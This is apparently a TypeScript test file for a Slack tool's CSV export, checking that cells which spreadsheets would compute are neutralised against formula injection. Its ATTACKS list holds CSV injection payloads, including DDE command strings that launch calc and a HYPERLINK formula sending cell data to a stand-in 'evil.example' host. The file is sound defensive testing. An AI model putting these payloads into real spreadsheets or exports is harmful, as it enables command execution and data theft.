import fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, test } from "vitest";
import { ENGLISH } from "../../../src/language/language.ts";
import { safeCell } from "../../../src/slack/csv/cell.ts";
import { csvLines } from "../../../src/slack/csv/lines.ts";
import { logCsv } from "../../../src/slack/csv/log.ts";
import { readCsv, rowsOf, written } from "./reading.ts";

/** How formulas are smuggled into spreadsheets. Sources: OWASP, "CSV Injection"; PayloadsAllTheThings. */
const ATTACKS = [
  "=1+1",
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "+1+1",
  "+SUM(1,2)",
  "-2+3",
  "-2+3+cmd|' /C calc'!D2",
  "-A1",
  "@SUM(A1)",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t1",
  "\r1",
  "\n1",
  " =1+1",
  "\u00a0=1+1",
  "\ufeff=1+1",
  "\u200b=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(A1)",
  "=",
  "-",
  "+",
  "@",
  "--1",
  "+-1",
  "+1+2",
  "-1-2",
];

const NUMBERS = ["-12", "-0.5", "-1,234.56", "-1 234,50", "-1.234,50", "+3", "-7 %", "-15%", "-1.5E-7", "12", "0", "007"];

const PHONES = [
  "+4722334455",
  "+47 22 33 44 55",
  "+47\u00a022\u00a033\u00a044\u00a055",
  "+1 (555) 010-9999",
  "+44 (0)20 7946 0958",
  "+49 30 901820-0",
  "+33.1.23.45.67.89",
];

/** A spreadsheet would show them as -654 and the like. */
const SUMS = ["+1-555-0100", "+1 - 555 - 0100", "+47-22334455"];

describe("a cell", () => {
  test.each([...ATTACKS, ...SUMS, "+47 22 33;x", "-5 apples", "- a list", "+1 (555) 010-9999 ext=5"])(
    "that a spreadsheet would compute is text: %j",
    (text) => expect(safeCell(text)).toBe(`'${text}`),
  );

  test.each([
    ...NUMBERS,
    ...PHONES,
    "Ada",
    "a=b",
    "a+b",
    "me@example.com",
    "",
    "2026-01-01",
    "12-34",
    "x -5",
    "https://a.example/?b=1",
  ])("that computes nothing stays as it is: %j", (text) => expect(safeCell(text)).toBe(text));

  test.each([
    ["Red;=1+1", "Red;'=1+1"],
    ['Red;"=1+1"', 'Red;"\'=1+1"'],
    ["one\n=1+1", "one\n'=1+1"],
    ["one\t@SUM(A1)", "one\t'@SUM(A1)"],
    ["one\r\n ＝1", "one\r\n '＝1"],
    [";=1", ";'=1"],
    ["\t=1", "'\t'=1"],
    ["\r\n=1", "'\r\n'=1"],
  ])("holds no formula for spreadsheets that split by semicolon, tab or line either: %j", (text, safe) => {
    expect(safeCell(text)).toBe(safe);
  });
});

describe("a CSV file", () => {
  test("reads back as it was written, whatever the cells hold, and no cell begins a formula", async () => {
    const cell = fc.oneof(
      fc.string({ unit: "binary" }),
      fc.constantFrom('a "b", c', "line\r\nbreak", "", ...ATTACKS, ...NUMBERS, ...PHONES),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(cell, cell)), async (rows) => {
        const text = await written(csvLines(["one", "two"], rowsOf(rows)));
        expect(text.startsWith("\ufeffone,two\r\n")).toBe(true);
        const read = readCsv(text);
        expect(read.slice(1)).toEqual(rows.map((row) => row.map(safeCell)));
        for (const value of read.flat()) {
          expect(value).not.toMatch(/^[=@\t\r\n＝＋－＠]/u);
          if (!NUMBERS.includes(value)) expect(value).not.toMatch(/^[+-].*[A-Za-z|!*/^&]/u);
        }
      }),
      { numRuns: 100 },
    );
  });

  test("split by semicolons, as Excel does in many countries, holds no formula", async () => {
    const text = await written(csvLines(["one"], rowsOf(ATTACKS.map((attack) => [`Red;${attack.trimStart()};Blue`]))));
    const { data } = Papa.parse(text, { delimiter: ";", newline: "\r\n" });
    for (const value of data.flat()) if (!NUMBERS.includes(value)) expect(value).not.toMatch(/^[=+\-@＝＋－＠]/u);
  });

  test("of the log has a line for each entry, with times in UTC", async () => {
    const entry = {
      at: new Date("2026-11-22T10:00:00Z"),
      connection: "acme",
      userId: "U0ADMIN",
      action: "fix",
      target: "error E7K3Q",
      outcome: "done" as const,
      detail: "=cmd()",
      allowedAs: "admin by name",
      fix: { requestId: "F-1", standing: 0, undone: 2, undoneBy: "U0ADMIN" },
    };
    const [head, line] = (await written(logCsv(ENGLISH, rowsOf([entry])))).split("\r\n");
    expect(head).toBe("\ufefftime,connection,user,allowed as,action,target,outcome,detail,undone records");
    expect(line).toBe("2026-11-22T10:00:00.000Z,acme,U0ADMIN,admin by name,fix,error E7K3Q,done,'=cmd(),2");
  });

  test("comes as it is made: a million rows are never held at once", async () => {
    let made = 0;
    async function* endless(): AsyncGenerator<readonly string[]> {
      for (;;) {
        made += 1;
        yield [String(made)];
      }
    }
    let seen = 0;
    for await (const _ of csvLines(["n"], endless())) {
      seen += 1;
      if (seen > 2_000) break;
    }
    expect(made).toBeLessThan(20_000);
  });

  test("fails where its rows can't be had, rather than ending early", async () => {
    async function* failing(): AsyncGenerator<readonly string[]> {
      yield ["1"];
      throw new Error("the store is gone");
    }
    await expect(written(csvLines(["n"], failing()))).rejects.toThrow("the store is gone");
  });
});
